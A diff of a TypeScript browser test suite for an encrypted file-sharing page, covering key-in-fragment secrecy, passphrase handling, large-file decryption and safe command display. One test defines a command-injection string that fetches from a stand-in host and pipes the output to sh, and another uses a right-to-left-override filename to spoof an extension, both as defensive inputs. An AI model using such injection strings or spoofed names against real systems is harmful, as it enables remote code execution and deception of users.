@@ -1,16 +1,16 @@
 import assert from "node:assert/strict";
 import { readFile } from "node:fs/promises";
-import { after, before, test } from "node:test";
+import { test } from "node:test";
 import { armor, Encrypter } from "age-encryption";
-import type { Browser, Page } from "playwright-core";
+import type { Page } from "playwright-core";
 import { withFragmentKey } from "../../../src/transfer/encryption/fragment-key.ts";
-import { createShareKey, type ShareKey } from "../../../src/transfer/encryption/share-key.ts";
-import { wrapName } from "../../../src/transfer/encryption/wrapped-name.ts";
-import { browserMissing, launchBrowser, openPage } from "../../support/browser/browser.ts";
-import type { TestServer } from "../../support/server.ts";
+import { createShareKey } from "../../../src/transfer/encryption/share-key.ts";
+import { browserMissing, openPage } from "../../support/browser/browser.ts";
 import { describeUnless } from "../../support/suite.ts";
 import { clientOf, postUpload, type Upload } from "../support/api/api.ts";
-import { startPlainServer } from "../support/servers/plain-server.ts";
+import { chooseSavedFile, pretendLarge } from "../support/encryption/saved-files.ts";
+import { encryptFor, wrapFile } from "../support/encryption/sealed-files.ts";
+import { GUARDED, useSealingSite } from "../support/encryption/sealing-site.ts";
 import { postBatch } from "../support/uploads/batches.ts";
 import { MB, someBytes } from "../support/uploads/multipart.ts";
 
@@ -21,37 +21,24 @@ const PASSPHRASE = "correct horse battery staple";
 
 /** encryption, "On the page". */
 describeUnless(browserMissing, "the page of an encrypted file", () => {
-  let server: TestServer;
-  let browser: Browser;
-  let key: ShareKey;
-  before(async () => {
-    server = await startPlainServer({ FILEHOST_CONTENT_URL: "http://content.example.org:9", FILEHOST_LOG: "trace:json" });
-    browser = await launchBrowser({ hosts: [PLAIN_HOST] });
-    key = await createShareKey();
-  });
-  after(async () => {
-    await browser?.close();
-    await server[Symbol.asyncDispose]();
-  });
+  const site = useSealingSite(GUARDED, { hosts: [PLAIN_HOST] });
 
-  async function encrypt(bytes: Uint8Array, use = (encrypter: Encrypter) => encrypter.addRecipient(key.recipient)) {
+  const encrypt = (bytes: Uint8Array): Promise<Uint8Array<ArrayBuffer>> => encryptFor(site.sender.key.recipient, bytes);
+
+  async function encryptByPassphrase(bytes: Uint8Array): Promise<Uint8Array<ArrayBuffer>> {
     const encrypter = new Encrypter();
-    use(encrypter);
+    encrypter.setScryptWorkFactor(12);
+    encrypter.setPassphrase(PASSPHRASE);
     return new Uint8Array(await encrypter.encrypt(bytes));
   }
 
-  const byPassphrase = (encrypter: Encrypter): void => {
-    encrypter.setScryptWorkFactor(12);
-    encrypter.setPassphrase(PASSPHRASE);
-  };
-
   async function send(bytes: Uint8Array<ArrayBuffer>, fields: Record<string, string> = {}, name = "report.pdf.age"): Promise<Upload> {
-    const { status, body } = await postUpload(server, { bytes, name, fields });
+    const { status, body } = await postUpload(site.server, { bytes, name, fields });
     assert.equal(status, 200, JSON.stringify(body));
     return body.data;
   }
 
-  const linkOf = ({ shortId }: Pick<Upload, "shortId">): string => `${server.url}/d/${shortId}`;
+  const linkOf = ({ shortId }: Pick<Upload, "shortId">): string => `${site.server.url}/d/${shortId}`;
   const button = (page: Page) => page.getByRole("button", { name: "Decrypt and download" });
 
   async function save(page: Page): Promise<{ readonly name: string; readonly bytes: Uint8Array }> {
@@ -60,12 +47,6 @@ describeUnless(browserMissing, "the page of an encrypted file", () => {
     return { name: download.suggestedFilename(), bytes: new Uint8Array(await readFile(await download.path())) };
   }
 
-  /** Makes the browser's dialog, which no test can operate, choose the file `saved` in the page's private folder. */
-  const chooseSavedFile = (page: Page): Promise<unknown> =>
-    page.addInitScript(() => {
-      const choose = async () => await (await navigator.storage.getDirectory()).getFileHandle("saved", { create: true });
-      Object.assign(globalThis, { showSaveFilePicker: choose });
-    });
   /** Counts the requests for a file's bytes from now on. */
   function countByteRequests(page: Page): () => number {
     let requests = 0;
@@ -74,18 +55,12 @@ describeUnless(browserMissing, "the page of an encrypted file", () => {
     });
     return () => requests;
   }
-  /** Makes the page treat its file as one of 300 MB. */
-  const pretendLarge = (page: Page): Promise<void> =>
-    button(page).evaluate((element) => {
-      (element as HTMLElement).dataset.encrypted = String(300 * 1024 * 1024);
-    });
-
   test("decrypts it with the key in the link, which no request and no log contains", async () => {
-    await using opened = await openPage(browser);
+    await using opened = await openPage(site.browser);
     const { page, complaints } = opened;
     const requests: string[] = [];
     page.on("request", (request) => requests.push(JSON.stringify([request.url(), request.postData(), request.headers()])));
-    const link = withFragmentKey(linkOf(await send(await encrypt(BYTES))), key.identity);
+    const link = withFragmentKey(linkOf(await send(await encrypt(BYTES))), site.sender.key.identity);
     await page.goto(link);
     assert.equal(await page.getByLabel("Passphrase or key").count(), 0);
     await button(page).waitFor();
@@ -96,21 +71,21 @@ describeUnless(browserMissing, "the page of an encrypted file", () => {
     await page.getByRole("link", { name: "Deutsch" }).click();
     await page.getByRole("button", { name: "Entschlüsseln und herunterladen" }).waitFor();
     assert.equal(new URL(page.url()).hash, new URL(link).hash);
-    const secret = key.identity.slice("AGE-SECRET-KEY-1".length, 40);
+    const secret = site.sender.key.identity.slice("AGE-SECRET-KEY-1".length, 40);
     const seen = requests.filter((request) => request.toUpperCase().includes(secret) && !request.startsWith('["blob:'));
     // The browser's own record of a page's URL has its fragment, which is not sent.
     assert.deepEqual(
       seen.filter((request) => !request.startsWith(`["${linkOf({ shortId: "" })}`)),
       [],
     );
-    assert.ok(!JSON.stringify(server.logs()).toUpperCase().includes(secret));
+    assert.ok(!JSON.stringify(site.server.logs()).toUpperCase().includes(secret));
     assert.deepEqual(complaints, []);
   });
 
   test("asks for a passphrase, and after a wrong one again, without another download", async () => {
-    await using opened = await openPage(browser);
+    await using opened = await openPage(site.browser);
     const { page, complaints } = opened;
-    const file = await send(await encrypt(BYTES, byPassphrase), { maxDownloads: "2" });
+    const file = await send(await encryptByPassphrase(BYTES), { maxDownloads: "2" });
     await page.goto(linkOf(file));
     await button(page).click();
     await page.getByText("Enter the passphrase or the key first.").first().waitFor();
@@ -135,12 +110,12 @@ describeUnless(browserMissing, "the page of an encrypted file", () => {
   }
 
   test("decrypts in a worker without a connection, and ends the worker", async () => {
-    await using opened = await openPage(browser);
+    await using opened = await openPage(site.browser);
     const { page, complaints } = opened;
     const script = page.waitForEvent("response", (response) => response.url().includes("/assets/decrypt.worker-"));
     const ended = Promise.withResolvers<void>();
     page.on("worker", (worker) => worker.on("close", () => ended.resolve()));
-    await page.goto(withFragmentKey(linkOf(await send(await encrypt(BYTES))), key.identity));
+    await page.goto(withFragmentKey(linkOf(await send(await encrypt(BYTES))), site.sender.key.identity));
     assert.deepEqual((await save(page)).bytes, new Uint8Array(BYTES));
     assert.equal((await script).headers()["content-security-policy"], "default-src 'none'");
     await ended.promise;
@@ -148,9 +123,9 @@ describeUnless(browserMissing, "the page of an encrypted file", () => {
   });
 
   test("can cancel, keeps its messages when the page changes, and can begin again", async () => {
-    await using opened = await openPage(browser);
+    await using opened = await openPage(site.browser);
     const { page } = opened;
-    const link = linkOf(await send(await encrypt(BYTES, byPassphrase)));
+    const link = linkOf(await send(await encryptByPassphrase(BYTES)));
     const release = await holdWorker(page);
     await page.goto(link);
     await page.getByLabel("Passphrase or key").fill(PASSPHRASE);
@@ -170,7 +145,7 @@ describeUnless(browserMissing, "the page of an encrypted file", () => {
   });
 
   test("can cancel the decryption of a file that is written as text, and can begin again", async () => {
-    await using opened = await openPage(browser);
+    await using opened = await openPage(site.browser);
     const { page } = opened;
     await chooseSavedFile(page);
     // The first response ends in the middle of the file, and is not closed.
@@ -186,8 +161,8 @@ describeUnless(browserMissing, "the page of an encrypted file", () => {
       }, fetch);
     });
     const sealed = new Uint8Array(Buffer.from(armor.encode(await encrypt(BYTES))));
-    await page.goto(withFragmentKey(linkOf(await send(sealed)), key.identity));
-    await pretendLarge(page);
+    await page.goto(withFragmentKey(linkOf(await send(sealed)), site.sender.key.identity));
+    await pretendLarge(button(page));
     await button(page).click();
     await page.locator("#decryption-status").getByText("Decrypting…").waitFor();
     await page.getByRole("button", { name: "Cancel" }).click();
@@ -201,9 +176,9 @@ describeUnless(browserMissing, "the page of an encrypted file", () => {
     for (const bytes of [sealed, new Uint8Array(Buffer.from(armor.encode(sealed)))]) {
       const file = await send(bytes, {}, "report.pdf.age");
       for (const host of ["localhost", PLAIN_HOST]) {
-        await using opened = await openPage(browser);
+        await using opened = await openPage(site.browser);
         const { page } = opened;
-        await page.goto(withFragmentKey(linkOf(file).replace(/localhost|127\.0\.0\.1/, host), key.identity));
+        await page.goto(withFragmentKey(linkOf(file).replace(/localhost|127\.0\.0\.1/, host), site.sender.key.identity));
         assert.equal(await page.evaluate(() => typeof crypto.subtle), host === PLAIN_HOST ? "undefined" : "object");
         assert.deepEqual(await save(page), { name: "report.pdf", bytes: new Uint8Array(BYTES) });
       }
@@ -211,13 +186,13 @@ describeUnless(browserMissing, "the page of an encrypted file", () => {
   });
 
   test("keeps the key in the URL of another list of files, and in the links to it", async () => {
-    const { shortId, shareToken = "" } = (await clientOf(server).call("createShare", {})).data;
+    const { shortId, shareToken = "" } = (await clientOf(site.server).call("createShare", {})).data;
     const bytes = await encrypt(Buffer.from("words"));
     const files = Array.from({ length: 30 }, (_, index) => ({ relativePath: `${String(index).padStart(3, "0")}.age`, bytes }));
-    await postBatch(server, { shareShortId: shortId, shareToken }, files);
-    await using opened = await openPage(browser);
+    await postBatch(site.server, { shareShortId: shortId, shareToken }, files);
+    await using opened = await openPage(site.browser);
     const { page } = opened;
-    const link = withFragmentKey(linkOf({ shortId }), key.identity);
+    const link = withFragmentKey(linkOf({ shortId }), site.sender.key.identity);
     await page.goto(link);
     await page.locator("button[data-all][data-decrypt]").waitFor();
     await page.locator("#search").fill("001");
@@ -234,12 +209,12 @@ describeUnless(browserMissing, "the page of an encrypted file", () => {
   });
 
   test("tries each key for a large file with the same response", async () => {
-    await using opened = await openPage(browser);
+    await using opened = await openPage(site.browser);
     const { page, complaints } = opened;
     await chooseSavedFile(page);
     const requests = countByteRequests(page);
-    await page.goto(linkOf(await send(await encrypt(BYTES, byPassphrase), { maxDownloads: "3" })));
-    await pretendLarge(page);
+    await page.goto(linkOf(await send(await encryptByPassphrase(BYTES), { maxDownloads: "3" })));
+    await pretendLarge(button(page));
     for (const wrong of ["another passphrase", "a third passphrase"]) {
       await page.getByLabel("Passphrase or key").fill(wrong);
       await button(page).click();
@@ -258,15 +233,15 @@ describeUnless(browserMissing, "the page of an encrypted file", () => {
   });
 
   test("counts no download of a large file before its worker is loaded", async () => {
-    await using opened = await openPage(browser);
+    await using opened = await openPage(site.browser);
     const { page } = opened;
     await chooseSavedFile(page);
     const requests = countByteRequests(page);
     const worker = "**/assets/decrypt.worker-*";
     await page.route(worker, (route) => route.fulfill({ status: 404 }));
     const sent = await send(await encrypt(BYTES), { maxDownloads: "2" });
-    await page.goto(withFragmentKey(linkOf(sent), key.identity));
-    await pretendLarge(page);
+    await page.goto(withFragmentKey(linkOf(sent), site.sender.key.identity));
+    await pretendLarge(button(page));
     await button(page).click();
     await page.locator("p.problem").filter({ visible: true }).waitFor();
     assert.equal(requests(), 0);
@@ -277,19 +252,19 @@ describeUnless(browserMissing, "the page of an encrypted file", () => {
   });
 
   test("shows the hidden name of a large file, which is unknown before a file is chosen for it", async () => {
-    const { before, after } = wrapName({ name: "docs/\u202egpj.exe", sizeBytes: BYTES.length, modifiedMs: 0, isExecutable: false });
+    const wrapped = wrapFile("docs/\u202egpj.exe", BYTES);
     // Without the limit, the page would know the name already.
     const limit = { maxDownloads: "3" };
-    const file = await send(await encrypt(Buffer.concat([before, BYTES, after])), limit, "encrypted-0123456789abcdef.tar.age");
-    await using opened = await openPage(browser);
+    const file = await send(await encrypt(wrapped), limit, "encrypted-0123456789abcdef.tar.age");
+    await using opened = await openPage(site.browser);
     const { page, complaints } = opened;
     await page.addInitScript(() => {
       const choose = async ({ suggestedName }: { suggestedName: string }) =>
         await (await navigator.storage.getDirectory()).getFileHandle(suggestedName, { create: true });
       Object.assign(globalThis, { showSaveFilePicker: choose });
     });
-    await page.goto(withFragmentKey(linkOf(file), key.identity));
-    await pretendLarge(page);
+    await page.goto(withFragmentKey(linkOf(file), site.sender.key.identity));
+    await pretendLarge(button(page));
     await button(page).click();
     await page.locator("#decryption-status").getByText("The sender calls the file “docs/gpj.exe”.").waitFor();
     const size = await page.evaluate(async () => {
@@ -301,17 +276,17 @@ describeUnless(browserMissing, "the page of an encrypted file", () => {
 
   /** Opens a page that cannot write to a file, but has a service worker, and makes it treat its file as a large one. */
   async function openWithWorker(link: string) {
-    const opened = await openPage(browser, { serviceWorkers: "allow" });
+    const opened = await openPage(site.browser, { serviceWorkers: "allow" });
     await opened.page.addInitScript(() => Object.assign(globalThis, { showSaveFilePicker: undefined }));
     await opened.page.goto(link);
-    await pretendLarge(opened.page);
+    await pretendLarge(button(opened.page));
     return opened;
   }
 
   test("saves a large file by the service worker if the browser cannot write to a file, under its hidden name", async () => {
-    const { before, after } = wrapName({ name: "docs/Größe 'x'.txt", sizeBytes: BYTES.length, modifiedMs: 0, isExecutable: false });
-    const file = await send(await encrypt(Buffer.concat([before, BYTES, after])), { maxDownloads: "3" }, "encrypted.tar.age");
-    await using opened = await openWithWorker(withFragmentKey(linkOf(file), key.identity));
+    const wrapped = wrapFile("docs/Größe 'x'.txt", BYTES);
+    const file = await send(await encrypt(wrapped), { maxDownloads: "3" }, "encrypted.tar.age");
+    await using opened = await openWithWorker(withFragmentKey(linkOf(file), site.sender.key.identity));
     const { page, complaints } = opened;
     for (const left of ["2 downloads left", "1 download left"]) {
       const [download] = await Promise.all([page.waitForEvent("download"), button(page).click()]);
@@ -319,7 +294,7 @@ describeUnless(browserMissing, "the page of an encrypted file", () => {
       assert.deepEqual(new Uint8Array(await readFile(await download.path())), new Uint8Array(BYTES));
       await page.getByText("Decrypted. Your browser saves the file.").first().waitFor();
       await page.getByText(left).first().waitFor();
-      await pretendLarge(page);
+      await pretendLarge(button(page));
     }
     assert.deepEqual(complaints, []);
   });
@@ -328,7 +303,7 @@ describeUnless(browserMissing, "the page of an encrypted file", () => {
     // More than the page decrypts before it passes the first bytes on.
     const sealed = await encrypt(someBytes(3 * MB, 6));
     sealed[sealed.length - 20] = (sealed.at(-20) ?? 0) ^ 1;
-    await using opened = await openWithWorker(withFragmentKey(linkOf(await send(sealed)), key.identity));
+    await using opened = await openWithWorker(withFragmentKey(linkOf(await send(sealed)), site.sender.key.identity));
     const { page } = opened;
     const [download] = await Promise.all([page.waitForEvent("download"), button(page).click()]);
     assert.notEqual(await download.failure(), null);
@@ -336,14 +311,14 @@ describeUnless(browserMissing, "the page of an encrypted file", () => {
   });
 
   test("shows the command for a large file if the browser can neither write to a file nor run a service worker, and requests nothing", async () => {
-    await using opened = await openPage(browser);
+    await using opened = await openPage(site.browser);
     const { page, complaints } = opened;
     await page.addInitScript(() => Object.assign(globalThis, { showSaveFilePicker: undefined }));
     const requests: string[] = [];
     page.on("request", (request) => requests.push(request.url()));
-    const link = withFragmentKey(linkOf(await send(await encrypt(BYTES), { maxDownloads: "1" })), key.identity);
+    const link = withFragmentKey(linkOf(await send(await encrypt(BYTES), { maxDownloads: "1" })), site.sender.key.identity);
     await page.goto(link);
-    await pretendLarge(page);
+    await pretendLarge(button(page));
     await button(page).click();
     await page.locator("#decryption-status").getByText("cannot decrypt a file of this size").waitFor();
     assert.equal(await page.locator("#decryption-command").textContent(), `filehost down '${link}'`);
@@ -352,11 +327,11 @@ describeUnless(browserMissing, "the page of an encrypted file", () => {
   });
 
   test("restores a hidden name, also behind a code", async () => {
-    const { before, after } = wrapName({ name: "docs/Größe.txt", sizeBytes: BYTES.length, modifiedMs: 0, isExecutable: false });
-    const file = await send(await encrypt(Buffer.concat([before, BYTES, after])), { protect: "true" }, "encrypted.tar.age");
-    await using opened = await openPage(browser);
+    const wrapped = wrapFile("docs/Größe.txt", BYTES);
+    const file = await send(await encrypt(wrapped), { protect: "true" }, "encrypted.tar.age");
+    await using opened = await openPage(site.browser);
     const { page, complaints } = opened;
-    await page.goto(withFragmentKey(linkOf(file), key.identity));
+    await page.goto(withFragmentKey(linkOf(file), site.sender.key.identity));
     await page.getByLabel("Code").fill((file as { unlockCode?: string }).unlockCode ?? "");
     await page.getByRole("button", { name: "Unlock" }).click();
     assert.deepEqual(await save(page), { name: "Größe.txt", bytes: new Uint8Array(BYTES) });
@@ -367,14 +342,18 @@ describeUnless(browserMissing, "the page of an encrypted file", () => {
     const sealed = await encrypt(BYTES);
     const other = await createShareKey();
     const cases = [
-      { bytes: sealed, identity: `${key.identity.slice(0, -1)}`, text: "The key in the link does not match this file." },
+      { bytes: sealed, identity: `${site.sender.key.identity.slice(0, -1)}`, text: "The key in the link does not match this file." },
       { bytes: sealed, identity: other.identity, text: "The key in the link does not match this file." },
-      { bytes: sealed.map((byte, index) => (index === 200_000 ? byte ^ 1 : byte)), identity: key.identity, text: "damaged or incomplete" },
-      { bytes: sealed.slice(0, -70_000), identity: key.identity, text: "damaged or incomplete" },
-      { bytes: sealed.slice(0, sealed.length - 300_000 + 3 * 65_536), identity: key.identity, text: "damaged or incomplete" },
+      {
+        bytes: sealed.map((byte, index) => (index === 200_000 ? byte ^ 1 : byte)),
+        identity: site.sender.key.identity,
+        text: "damaged or incomplete",
+      },
+      { bytes: sealed.slice(0, -70_000), identity: site.sender.key.identity, text: "damaged or incomplete" },
+      { bytes: sealed.slice(0, sealed.length - 300_000 + 3 * 65_536), identity: site.sender.key.identity, text: "damaged or incomplete" },
     ];
     for (const { bytes, identity, text } of cases) {
-      await using opened = await openPage(browser);
+      await using opened = await openPage(site.browser);
       const { page } = opened;
       let downloads = 0;
       page.on("download", () => {
@@ -390,7 +369,7 @@ describeUnless(browserMissing, "the page of an encrypted file", () => {
 
   test("does not spend more work on a passphrase than a usual file requires", async () => {
     const header = `age-encryption.org/v1\n-> scrypt ${"A".repeat(22)} 21\n${"A".repeat(43)}\n--- ${"A".repeat(43)}\n`;
-    await using opened = await openPage(browser);
+    await using opened = await openPage(site.browser);
     const { page } = opened;
     await page.goto(linkOf(await send(new Uint8Array(Buffer.from(header)))));
     await page.getByLabel("Passphrase or key").fill(PASSPHRASE);
@@ -399,15 +378,15 @@ describeUnless(browserMissing, "the page of an encrypted file", () => {
   });
 
   test("decrypts the files of a shipment one by one", async () => {
-    const { shortId, shareToken = "" } = (await clientOf(server).call("createShare", {})).data;
+    const { shortId, shareToken = "" } = (await clientOf(site.server).call("createShare", {})).data;
     const files = [
       { relativePath: "a.txt.age", bytes: await encrypt(Buffer.from("the first")) },
       { relativePath: "b.txt.age", bytes: await encrypt(Buffer.from("the second")) },
     ];
-    await postBatch(server, { shareShortId: shortId, shareToken }, files);
-    await using opened = await openPage(browser);
+    await postBatch(site.server, { shareShortId: shortId, shareToken }, files);
+    await using opened = await openPage(site.browser);
     const { page, complaints } = opened;
-    const link = withFragmentKey(linkOf({ shortId }), key.identity);
+    const link = withFragmentKey(linkOf({ shortId }), site.sender.key.identity);
     await page.goto(link);
     await page.locator("button[data-all][data-decrypt]").waitFor();
     assert.equal(await page.locator("#terminal").textContent(), `filehost down '${link}'`);
@@ -421,20 +400,23 @@ describeUnless(browserMissing, "the page of an encrypted file", () => {
 
   test("takes only the key of a link into the command to copy, and into the links to other languages", async () => {
     const evil = "x=';curl$IFS-evil.example|sh;'";
-    const { shortId, shareToken = "" } = (await clientOf(server).call("createShare", {})).data;
+    const { shortId, shareToken = "" } = (await clientOf(site.server).call("createShare", {})).data;
     const files = ["a.txt.age", "b.txt.age"].map(async (relativePath) => ({
       relativePath,
       bytes: await encrypt(Buffer.from(relativePath)),
     }));
-    await postBatch(server, { shareShortId: shortId, shareToken }, await Promise.all(files));
+    await postBatch(site.server, { shareShortId: shortId, shareToken }, await Promise.all(files));
     const cases = [
-      { hash: `#key=${key.identity}&${evil}`, expected: withFragmentKey(linkOf({ shortId }), key.identity) },
-      { hash: `#${evil}&key=${key.identity.toLowerCase()}`, expected: withFragmentKey(linkOf({ shortId }), key.identity) },
+      { hash: `#key=${site.sender.key.identity}&${evil}`, expected: withFragmentKey(linkOf({ shortId }), site.sender.key.identity) },
+      {
+        hash: `#${evil}&key=${site.sender.key.identity.toLowerCase()}`,
+        expected: withFragmentKey(linkOf({ shortId }), site.sender.key.identity),
+      },
       { hash: `#${evil}`, expected: linkOf({ shortId }) },
-      { hash: `#key=${key.identity}';${evil}`, expected: linkOf({ shortId }) },
+      { hash: `#key=${site.sender.key.identity}';${evil}`, expected: linkOf({ shortId }) },
     ];
     for (const { hash, expected } of cases) {
-      await using opened = await openPage(browser);
+      await using opened = await openPage(site.browser);
       const { page } = opened;
       await page.goto(`${linkOf({ shortId })}${hash}`);
       await page.locator("button[data-all][data-decrypt]").waitFor();
@@ -456,9 +438,9 @@ describeUnless(browserMissing, "the page of an encrypted file", () => {
     assert.match(sent.headers.get("content-disposition") ?? "", /^attachment/);
     assert.deepEqual(new Uint8Array(await sent.arrayBuffer()), sealed);
     assert.equal((await ask(plain)).status, 404);
-    await using opened = await openPage(browser, { javaScriptEnabled: false });
+    await using opened = await openPage(site.browser, { javaScriptEnabled: false });
     await opened.page.goto(linkOf(file));
-    assert.equal(await opened.page.getByRole("button", { name: "Download report.pdf.age" }).count(), 1);
+    assert.equal(await opened.page.getByRole("button", { name: "Download encrypted" }).count(), 1);
     assert.equal(await button(opened.page).count(), 0);
     await opened.page.getByText("To decrypt, turn on JavaScript, or use the program filehost:").waitFor();
   });
